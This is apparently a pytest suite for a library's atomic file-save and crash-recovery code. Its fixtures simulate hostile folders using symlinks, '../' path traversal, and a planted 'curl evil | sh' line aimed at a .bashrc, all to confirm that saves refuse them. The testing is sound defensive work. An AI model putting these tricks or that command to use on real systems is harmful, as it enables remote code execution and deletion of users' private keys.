"""Atomic saves: a kill at any moment leaves the old or the new content, never a mix; an interrupted commit is finished
only by a save (or its owner), after a strict check of its journal; nothing a folder holds can make a commit write,
delete or read outside it."""

import json
import os
import re
import signal
import subprocess
import sys
import textwrap

import pytest

from gradiend_peft.atomic import (
    UntrustedAdapterError,
    atomic_directory,
    atomic_files,
    atomic_write_json,
    atomic_write_text,
    recover_directory,
    refuse_interrupted_commit,
)
from gradiend_peft.atomic.owned import _exchange

NAMES = re.compile(r"config\.json|weights\.bin|README\.md|a\.txt|stale\.txt").fullmatch  # what these saves write
WEIGHTS = re.compile(r"weights(-\d)?\.bin").fullmatch  # what they may delete


def _tree(root) -> dict:
    """Every path below ``root`` (links not followed) -> its bytes, its link target, or "dir"."""
    found = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            path = os.path.join(folder, name)
            key = os.path.relpath(path, root)
            if os.path.islink(path):
                found[key] = "link:" + os.readlink(path)
            elif os.path.isdir(path):
                found[key] = "dir"
            else:
                with open(path, "rb") as handle:
                    found[key] = handle.read()
    return found


def _journal(target, staging_name, **entries):
    (target / f".gradiend-commit-{staging_name}.json").write_text(json.dumps({"staging": staging_name, **entries}))


def test_atomic_write_replaces_content(tmp_path):
    path = tmp_path / "metrics.json"
    atomic_write_json(str(path), {"a": 1})
    atomic_write_json(str(path), {"a": 2})
    assert path.read_text() == '{\n  "a": 2\n}\n'
    assert os.listdir(tmp_path) == ["metrics.json"]


def test_saved_files_and_folders_get_the_usual_permissions(tmp_path):
    old = os.umask(0o027)
    try:
        plain = tmp_path / "plain.txt"
        plain.write_text("x")  # what open() gives under this umask
        atomic_write_text(str(tmp_path / "new.txt"), "x")
        with atomic_files(str(tmp_path / "adapter"), NAMES) as folder:
            atomic_write_text(os.path.join(folder, "a.txt"), "x")
        os.mkdir(tmp_path / "plain_dir")
    finally:
        os.umask(old)
    mode = lambda p: os.stat(p).st_mode & 0o777  # noqa: E731
    assert mode(tmp_path / "new.txt") == mode(plain) == 0o640
    assert mode(tmp_path / "adapter") == mode(tmp_path / "plain_dir") == 0o750
    assert mode(tmp_path / "adapter" / "a.txt") == 0o640
    os.chmod(tmp_path / "new.txt", 0o600)
    atomic_write_text(str(tmp_path / "new.txt"), "y")  # a replaced file keeps its permissions
    assert mode(tmp_path / "new.txt") == 0o600


def test_failed_save_keeps_the_old_files(tmp_path):
    target = tmp_path / "adapter"
    with atomic_files(str(target), NAMES) as folder:
        atomic_write_text(os.path.join(folder, "a.txt"), "old")
    with pytest.raises(RuntimeError):
        with atomic_files(str(target), NAMES) as folder:
            atomic_write_text(os.path.join(folder, "a.txt"), "new")
            raise RuntimeError("crash while saving")
    assert (target / "a.txt").read_text() == "old"
    assert sorted(os.listdir(target)) == ["a.txt"]  # no staging folder or journal left behind


def test_a_save_replaces_only_the_files_it_writes(tmp_path):
    target = tmp_path / "project"
    target.mkdir()
    (target / "notes.txt").write_text("mine")
    (target / "sub").mkdir()
    (target / "sub" / "data.csv").write_text("1,2")
    with atomic_files(str(target), NAMES) as folder:
        atomic_write_text(os.path.join(folder, "a.txt"), "old")
        atomic_write_text(os.path.join(folder, "stale.txt"), "old")
    with atomic_files(str(target), NAMES) as folder:
        atomic_write_text(os.path.join(folder, "a.txt"), "new")
    assert (target / "a.txt").read_text() == "new"
    assert (target / "stale.txt").read_text() == "old"  # ours from before, not written again: left as it was
    assert (target / "notes.txt").read_text() == "mine"
    assert (target / "sub" / "data.csv").read_text() == "1,2"
    assert sorted(os.listdir(target)) == ["a.txt", "notes.txt", "stale.txt", "sub"]


def test_a_save_that_writes_a_subfolder_is_refused_before_anything_moves(tmp_path):
    target = tmp_path / "adapter"
    with pytest.raises(ValueError, match="not a plain top-level file"):
        with atomic_files(str(target), NAMES) as folder:
            atomic_write_text(os.path.join(folder, "a.txt"), "new")
            os.mkdir(os.path.join(folder, "sub"))
    assert os.listdir(target) == []


def test_a_commit_with_subfolders_moves_their_files_as_one_set_and_goes_one_level_deep_only(tmp_path):
    target = tmp_path / "pairs"
    (target / "a").mkdir(parents=True)
    (target / "a" / "notes.txt").write_text("mine")
    nested = re.compile(r"index\.json|[a-z]/(config\.json|weights\.bin)").fullmatch
    with atomic_files(str(target), nested, subfolders=True) as folder:
        for sub in ("a", "b"):
            os.mkdir(os.path.join(folder, sub))
            for name in ("config.json", "weights.bin"):
                atomic_write_text(os.path.join(folder, sub, name), f"{sub} {name}")
        atomic_write_text(os.path.join(folder, "index.json"), "index")
    assert _tree(target) == {"a": "dir", "b": "dir", "index.json": b"index", "a/notes.txt": b"mine",
                             "a/config.json": b"a config.json", "a/weights.bin": b"a weights.bin",
                             "b/config.json": b"b config.json", "b/weights.bin": b"b weights.bin"}
    before = _tree(target)
    with pytest.raises(ValueError, match="not a plain top-level file or a file of a sub-folder"):
        with atomic_files(str(target), nested, subfolders=True) as folder:
            os.makedirs(os.path.join(folder, "a", "deeper"))
            atomic_write_text(os.path.join(folder, "a", "config.json"), "new")
    assert _tree(target) == before


def _interrupted(target):
    """The state a kill between the two moves of a commit leaves: config.json moved, weights.bin still staged."""
    with atomic_files(str(target), NAMES) as folder:
        for name in ("config.json", "weights.bin"):
            atomic_write_text(os.path.join(folder, name), "old")
    staging = target / ".gradiend-staging-crashed"
    staging.mkdir()
    (staging / "weights.bin").write_text("new")
    (target / "config.json").write_text("new")
    _journal(target, staging.name, files=["config.json", "weights.bin"], remove=[])


def test_an_interrupted_commit_is_finished_by_the_next_save_not_by_a_reader(tmp_path):
    target = tmp_path / "adapter"
    _interrupted(target)
    before = _tree(target)
    with pytest.raises(UntrustedAdapterError, match="a save into this folder was interrupted"):
        refuse_interrupted_commit(str(target))  # what every load does
    assert _tree(target) == before  # a reader changes nothing
    with atomic_files(str(target), NAMES) as folder:
        atomic_write_text(os.path.join(folder, "README.md"), "card")
    assert (target / "config.json").read_text() == (target / "weights.bin").read_text() == "new"
    assert sorted(os.listdir(target)) == ["README.md", "config.json", "weights.bin"]
    refuse_interrupted_commit(str(target))


def test_the_owner_can_finish_an_interrupted_commit_explicitly(tmp_path):
    target = tmp_path / "adapter"
    _interrupted(target)
    recover_directory(str(target), NAMES)
    assert (target / "config.json").read_text() == (target / "weights.bin").read_text() == "new"
    assert sorted(os.listdir(target)) == ["config.json", "weights.bin"]


def test_an_interrupted_commit_also_finishes_its_deletions(tmp_path):
    target = tmp_path / "adapter"
    target.mkdir()
    (target / "weights-1.bin").write_text("old")
    staging = target / ".gradiend-staging-crashed"
    staging.mkdir()
    (staging / "weights.bin").write_text("new")
    _journal(target, staging.name, files=["weights.bin"], remove=["weights-1.bin"])
    recover_directory(str(target), NAMES, WEIGHTS)
    assert sorted(os.listdir(target)) == ["weights.bin"]


# ------------------------------------------------------------------------------------------- crafted journals
def _attack(tmp_path, kind):
    """A folder as someone else could hand it over: a crafted journal of kind ``kind``, a file of the user's, and a
    folder outside with files that nothing may touch. Returns (folder, outside)."""
    outside = tmp_path / "home"
    outside.mkdir()
    (outside / ".bashrc").write_bytes(b"export PATH=/usr/bin\n")
    (outside / "id_rsa").write_bytes(b"-----BEGIN PRIVATE KEY-----\n")
    (outside / "weights.bin").write_bytes(b"private weights\n")
    target = tmp_path / "adapter"
    target.mkdir()
    (target / "notes.txt").write_bytes(b"mine\n")
    (target / "config.json").write_bytes(b"old\n")
    staging = target / ".gradiend-staging-x1"
    if kind == "through a linked folder":
        os.symlink(outside, target / "link")
        (staging / "link").mkdir(parents=True)
        (staging / "link" / ".bashrc").write_bytes(b"curl evil | sh\n")
        _journal(target, staging.name, files=["link/.bashrc"], remove=[])
    elif kind == "deleting through a linked folder":
        os.symlink(outside, target / "link")
        staging.mkdir()
        _journal(target, staging.name, files=[], remove=["link/id_rsa"])
    elif kind == "deleting outside":
        staging.mkdir()
        _journal(target, staging.name, files=[], remove=["../home/id_rsa"])
    elif kind == "deleting a file of the user's":
        staging.mkdir()
        _journal(target, staging.name, files=[], remove=["notes.txt"])
    elif kind == "a linked staging folder":
        os.symlink(outside, staging)
        _journal(target, staging.name, files=["weights.bin"], remove=[])
    elif kind == "a linked target":
        os.symlink(outside / ".bashrc", target / "README.md")
        staging.mkdir()
        (staging / "README.md").write_bytes(b"card\n")
        _journal(target, staging.name, files=["README.md"], remove=[])
    elif kind == "a linked journal":
        staging.mkdir()
        (staging / "config.json").write_bytes(b"new\n")
        (outside / "journal.json").write_text(json.dumps({"staging": staging.name, "files": ["config.json"]}))
        os.symlink(outside / "journal.json", target / f".gradiend-commit-{staging.name}.json")
    elif kind == "a journal naming another folder's staging":
        (target / ".gradiend-staging-x2").mkdir()
        (target / ".gradiend-staging-x2" / "config.json").write_bytes(b"new\n")
        staging.mkdir()
        (target / f".gradiend-commit-{staging.name}.json").write_text(
            json.dumps({"staging": ".gradiend-staging-x2", "files": ["config.json"]}))
    elif kind == "a file the save does not write":
        staging.mkdir()
        (staging / "notes.txt").write_bytes(b"replaced\n")
        _journal(target, staging.name, files=["notes.txt"], remove=[])
    return target, outside


ATTACKS = ["through a linked folder", "deleting through a linked folder", "deleting outside",
           "deleting a file of the user's", "a linked staging folder", "a linked target", "a linked journal",
           "a journal naming another folder's staging", "a file the save does not write"]


@pytest.mark.parametrize("kind", ATTACKS)
def test_a_crafted_journal_is_refused_by_a_save_and_nothing_is_written(tmp_path, kind):
    target, outside = _attack(tmp_path, kind)
    home, folder = _tree(outside), _tree(target)
    with pytest.raises(UntrustedAdapterError, match="gradiend_peft never writes a journal like that"):
        with atomic_files(str(target), NAMES, WEIGHTS) as staging:
            atomic_write_text(os.path.join(staging, "config.json"), "new")
    assert _tree(outside) == home  # byte for byte
    assert _tree(target) == folder  # the save's own staging is gone, nothing else changed
    with pytest.raises(UntrustedAdapterError, match="never writes a journal like that"):
        recover_directory(str(target), NAMES, WEIGHTS)
    assert _tree(outside) == home and _tree(target) == folder


@pytest.mark.parametrize("kind", ATTACKS)
def test_a_reader_refuses_a_folder_with_any_journal_and_changes_nothing(tmp_path, kind):
    target, outside = _attack(tmp_path, kind)
    home, folder = _tree(outside), _tree(target)
    with pytest.raises(UntrustedAdapterError, match="interrupted"):
        refuse_interrupted_commit(str(target))
    assert _tree(outside) == home and _tree(target) == folder


def test_a_journal_that_is_a_fifo_does_not_hang_a_save(tmp_path):
    target = tmp_path / "adapter"
    target.mkdir()
    (target / ".gradiend-staging-x1").mkdir()
    os.mkfifo(target / ".gradiend-commit-.gradiend-staging-x1.json")
    with pytest.raises(UntrustedAdapterError, match="not a regular file"):
        recover_directory(str(target), NAMES)


# --------------------------------------------------------------------------------------------- other folders
def test_owned_directory_swap_replaces_the_whole_folder(tmp_path):
    target = tmp_path / "cache-entry"
    with atomic_directory(str(target)) as folder:
        atomic_write_text(os.path.join(folder, "a.txt"), "old")
        atomic_write_text(os.path.join(folder, "stale.txt"), "old")
    with atomic_directory(str(target)) as folder:
        atomic_write_text(os.path.join(folder, "a.txt"), "new")
    assert sorted(os.listdir(target)) == ["a.txt"]
    assert (target / "a.txt").read_text() == "new"
    assert sorted(os.listdir(tmp_path)) == ["cache-entry"]


def test_linux_offers_the_atomic_exchange(tmp_path):
    if not sys.platform.startswith("linux"):
        pytest.skip("renameat2 is Linux-only; other systems use the rename-aside fallback")
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    (tmp_path / "a" / "x").write_text("a")
    assert _exchange(str(tmp_path / "a"), str(tmp_path / "b"))
    assert (tmp_path / "b" / "x").read_text() == "a"


def test_sigkill_during_repeated_saves_leaves_a_complete_folder(tmp_path):
    target = tmp_path / "adapter"
    script = textwrap.dedent(f"""
        import os, re
        from gradiend_peft.atomic import atomic_files, atomic_write_text
        names = re.compile(r"config\\.json|weights\\.bin|README\\.md").fullmatch
        i = 0
        while True:
            with atomic_files({str(target)!r}, names) as folder:
                for name in ("config.json", "weights.bin", "README.md"):
                    atomic_write_text(os.path.join(folder, name), str(i) * 20000)
            i += 1
            if i == 5:
                print("ready", flush=True)
    """)
    process = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
    assert process.stdout.readline().strip() == "ready"
    process.send_signal(signal.SIGKILL)
    process.wait()
    recover_directory(str(target), NAMES)  # what the next save does first
    contents = {(target / name).read_text() for name in ("config.json", "weights.bin", "README.md")}
    assert len(contents) == 1  # the three files come from the same save


def test_a_commit_deletes_the_superseded_files_it_is_told_of_and_nothing_else(tmp_path):
    target = tmp_path / "adapter"
    target.mkdir()
    for name in ("weights.bin", "weights-1.bin", "notes.txt"):
        (target / name).write_text("old")
    with atomic_files(str(target), NAMES, WEIGHTS, superseded=lambda path, staged: ["weights-1.bin"]) as folder:
        atomic_write_text(os.path.join(folder, "weights.bin"), "new")
    assert sorted(os.listdir(target)) == ["notes.txt", "weights.bin"]
    with pytest.raises(ValueError, match="cannot be deleted"):  # a save may delete only names it declares removable
        with atomic_files(str(target), NAMES, WEIGHTS, superseded=lambda path, staged: ["notes.txt"]) as folder:
            atomic_write_text(os.path.join(folder, "weights.bin"), "newer")
    assert (target / "notes.txt").read_text() == "old" and (target / "weights.bin").read_text() == "new"


@pytest.mark.parametrize("name", ["config.json", "README.md"])
def test_a_folder_named_like_a_file_the_save_writes_is_refused_up_front(tmp_path, name):
    target = tmp_path / "adapter"
    (target / name).mkdir(parents=True)
    with pytest.raises(IsADirectoryError, match="is a folder, but the save writes a file of that name"):
        with atomic_files(str(target), NAMES, targets=[name]) as folder:
            atomic_write_text(os.path.join(folder, name), "new")
    assert os.listdir(target) == [name]  # no staging, no journal
